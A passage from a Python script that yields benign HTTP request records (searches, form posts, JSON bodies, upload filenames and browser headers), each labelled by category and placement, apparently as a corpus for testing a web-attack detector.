        yield {**_search(q), "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "query"}
        n += 1
        yield {**prose_request(q), "id": f"{NAME}-adminsearch-{n:04d}", "category": "benign", "placement": "form"}
    for url in DOC_URLS:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{NAME}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    for text in PROSE:
        n += 1
        yield {**prose_request(text), "id": f"{NAME}-prose-{n:04d}", "category": "benign", "placement": "form"}
    for name in NAMES:
        n += 1
        yield {**_search(name), "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "query"}
        n += 1
        yield {**_json("/api/users", {"name": name, "email": "person@example.org"}),
               "id": f"{NAME}-name-{n:04d}", "category": "benign", "placement": "json"}
    for addr in ADDRESSES:
        n += 1
        yield {**_json("/api/users/42", {"address": addr, "country": "GB"}),
               "id": f"{NAME}-address-{n:04d}", "category": "benign", "placement": "json"}
    for filename in UPLOAD_NAMES:
        n += 1
        yield {**_upload(filename), "id": f"{NAME}-upload-{n:04d}", "category": "benign",
               "placement": "multipart-filename"}
    for ua in BROWSER_UAS:
        n += 1
        yield {**_req("GET", "/api/users?page=1", "", {"User-Agent": ua, "Accept": "application/json"}),
               "id": f"{NAME}-header-{n:04d}", "category": "benign", "placement": "header:User-Agent"}
    for ref in REFERERS:
        n += 1
        yield {**_req("GET", "/api/users?page=1", "", _headers({"Referer": ref})),
               "id": f"{NAME}-header-{n:04d}", "category": "benign", "placement": "header:Referer"}


if __name__ == "__main__":
    for record in [*attacks(), *benign()]:
        print(json.dumps(record, ensure_ascii=False))
